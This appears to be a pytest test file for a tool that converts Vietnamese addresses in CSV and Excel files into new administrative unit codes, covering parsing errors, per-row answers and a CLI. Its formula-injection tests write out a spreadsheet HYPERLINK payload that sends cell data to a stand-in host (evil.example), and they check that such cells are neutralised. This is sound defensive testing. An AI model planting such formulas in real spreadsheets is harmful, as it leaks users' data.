"""Many addresses at once: reading CSV/Excel, per-row answers, clear errors naming the row."""

from __future__ import annotations

import csv
import io

import pytest

from geodata.convert import (
    MAX_ROWS,
    ConvertError,
    convert_bytes,
    convert_queries,
    read_table,
    write_xlsx,
)


@pytest.fixture(scope="module")
def finder(built):
    from geodata.finder import make_finder

    return make_finder(built)


def _rows(raw: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_round_trip_adds_the_new_unit_columns(finder):
    raw = (
        'address,ref\n"12 Hàng Bài, P. Hàng Bài, Q. Hoàn Kiếm",a\n"P. Dien Bien, Q. Ba Dinh",b\n'
        "Xã Minh Châu,c\n,d\nzzzzqqq,e\n21.0285 105.8542,f\n"
    ).encode()
    out, _ = convert_bytes(finder, raw, "en")
    rows = _rows(out)
    assert [r["ref"] for r in rows] == list("abcdef")  # the caller's columns are kept, in order
    assert rows[0]["new_code"] == "00082" and rows[0]["whole_split"] == "whole"
    split = rows[1]
    assert split["status"] == "split" and split["new_code"] == "00004"
    assert "Phường Ô Chợ Dừa (00190)" in split["candidates"] and "~94%" in split["candidates"]
    assert rows[2]["new_name"] == "Xã Minh Châu"
    assert rows[3]["status"] == "empty" and "Row 5" in rows[3]["note"]
    assert rows[4]["status"] == "not_found"
    assert rows[5]["status"] == "point" and rows[5]["new_code"] == "00070"


def test_semicolons_unquoted_commas_and_vietnamese_notes(finder):
    out, table = convert_bytes(finder, "dia_chi;x\nP. Hàng Bài, Hoàn Kiếm;1\n".encode(), "vi")
    assert table.address == 0 and _rows(out)[0]["new_code"] == "00082"
    one_column = "Địa chỉ cũ\n12 Hàng Bài, P. Hàng Bài, Q. Hoàn Kiếm\n".encode()
    row = _rows(convert_bytes(finder, one_column, "vi")[0])[0]
    assert row["new_code"] == "00082" and row["note"].startswith("Toàn bộ")


def test_excel_in_gives_excel_out(finder):
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["address", "n"])
    book.active.append(["P. Dien Bien, Q. Ba Dinh", 1])
    buf = io.BytesIO()
    book.save(buf)
    out, table = convert_bytes(finder, buf.getvalue())
    assert out.startswith(b"PK") and table.excel
    sheet = openpyxl.load_workbook(io.BytesIO(out)).active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["address", "n", "new_code"]
    assert sheet.cell(2, 3).value == "00004"
    assert write_xlsx(table).startswith(b"PK")


@pytest.mark.parametrize(
    "raw,kind,row",
    [
        (b'address,x\nok,1\n"unclosed,2\n', "malformed", 3),
        (b"address,x\nHang Bai,1\nHang Bai,1,2,3\n", "fields", 3),
        ("address\nHàng Bài\n".encode("cp1258") + b"\nHa\xf0ng\n", "encoding", 2),
        (b"\xd0\xcf\x11\xe0old excel", "xls", None),
        (b"PK\x03\x04broken", "xlsx", None),
        (b"address\n", "empty", None),
        (b"a,b\n1,2\n", "no_address", None),
        (b"address\n" + b"x\n" * (MAX_ROWS + 1), "too_many_rows", None),
    ],
)
def test_malformed_files_get_a_clear_message_naming_the_row(raw, kind, row):
    with pytest.raises(ConvertError) as err:
        read_table(raw)
    assert err.value.kind == kind
    if row is not None:
        assert f"row {row}" in err.value.message("en").lower()
        assert f"dòng {row}" in err.value.message("vi").lower()


def test_ambiguous_and_bad_queries_are_answered_per_row(finder):
    answers = convert_queries(finder, ["Phường Thanh Xuân Bắc", "x" * 400, "   "], "en")
    assert answers[0]["status"] in {"ok", "split"}
    assert answers[1]["status"] == "error" and answers[1]["note"].startswith("Row 2:")
    assert answers[2]["status"] == "empty"


def test_a_name_in_two_lists_going_to_one_place_is_not_ambiguous(finder):
    # Yên Viên was a thị trấn and a xã of Gia Lâm: both went to the same new unit.
    answer = convert_queries(finder, ["Yên Viên, Gia Lâm"], "en")[0]
    assert answer["status"] == "ok" and answer["new_code"] == "00541"
    shared = convert_queries(finder, ["Phường Quang Trung"], "en")[0]
    assert shared["status"] == "ambiguous" and "Quận Đống Đa" in shared["candidates"]


def test_cli_converts_a_file_and_reports_a_bad_one(tmp_path, data_root, cache_root, built, capsys):
    from geodata.__main__ import main

    src, dst = tmp_path / "in.csv", tmp_path / "out.csv"
    src.write_text("address\nP. Dien Bien, Q. Ba Dinh\n", encoding="utf-8")
    dirs = ["--data-dir", str(data_root), "--cache-dir", str(cache_root)]
    assert main(["convert", str(src), str(dst), "--lang", "en", *dirs]) == 0
    assert _rows(dst.read_bytes())[0]["new_code"] == "00004"
    src.write_text('address\n"open\n', encoding="utf-8")
    assert main(["convert", str(src), str(dst), *dirs]) == 2
    assert "dòng 2" in capsys.readouterr().err


# Issue #24: formula injection. Cells a spreadsheet would run go back neutralised.
HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+1", "@SUM(A1:A9)", "\tX"]


def test_csv_cells_that_would_start_a_formula_come_back_neutralised(finder):
    buf = io.StringIO(newline="")
    writer = csv.writer(buf)
    writer.writerow(["address", "ref", "amount"])
    for cell in HOSTILE_CELLS:
        writer.writerow(["P. Dien Bien, Q. Ba Dinh", cell, "-5"])
    writer.writerow([HOSTILE_CELLS[0], "-x", "-1.5"])
    out, _ = convert_bytes(finder, buf.getvalue().encode())
    rows = _rows(out)
    assert [r["ref"] for r in rows] == ["'" + c for c in HOSTILE_CELLS] + ["'-x"]
    assert rows[-1]["address"] == "'" + HOSTILE_CELLS[0]
    # Negative numbers are numbers, not formulas: they stay as they were.
    assert [r["amount"] for r in rows] == ["-5"] * len(HOSTILE_CELLS) + ["-1.5"]


def test_an_xlsx_of_text_cells_comes_back_with_no_formula_cell(finder):
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["address", "ref"])
    for cell in HOSTILE_CELLS * 3:
        sheet.append(["P. Dien Bien, Q. Ba Dinh", cell])
    for row in sheet.iter_rows():
        for c in row:
            c.data_type = "s"  # text cells, as a spreadsheet saves typed text
    buf = io.BytesIO()
    book.save(buf)
    out, table = convert_bytes(finder, buf.getvalue())
    assert table.excel
    back = openpyxl.load_workbook(io.BytesIO(out)).active
    cells = [c for row in back.iter_rows() for c in row]
    assert sum(c.data_type == "f" for c in cells) == 0
    assert back.cell(2, 2).value == HOSTILE_CELLS[0]  # kept as the text it was


def test_neutralise_leaves_numbers_and_plain_text_alone():
    from geodata.convert import neutralise

    assert [neutralise(v) for v in ["-12", "-0.5", "-1e3", "12", "Hà Nội", "", 3, None]] == [
        "-12",
        "-0.5",
        "-1e3",
        "12",
        "Hà Nội",
        "",
        3,
        None,
    ]
    assert [neutralise(v) for v in ["-", "-1-2", "=1", "\r=1", "@x"]] == [
        "'-",
        "'-1-2",
        "'=1",
        "'\r=1",
        "'@x",
    ]


def test_size_limit_is_exact():
    # Issue #25 (a random mutant survived): a file of exactly MAX_BYTES is read, one byte more is
    # refused.
    from geodata.convert import MAX_BYTES, ConvertError, read_table

    # 1,000 addresses padded with spaces (a CSV field stays under the csv module's 128 KB).
    rows = [b"address\n"] + [b"Hang Bac" + b" " * 4990 + b"\n" for _ in range(1000)]
    exact = b"".join(rows)
    exact += b" " * (MAX_BYTES - len(exact))
    assert len(exact) == MAX_BYTES
    assert len(read_table(exact).rows) == 1000
    with pytest.raises(ConvertError) as err:
        read_table(exact + b" ")
    assert err.value.kind == "too_large"
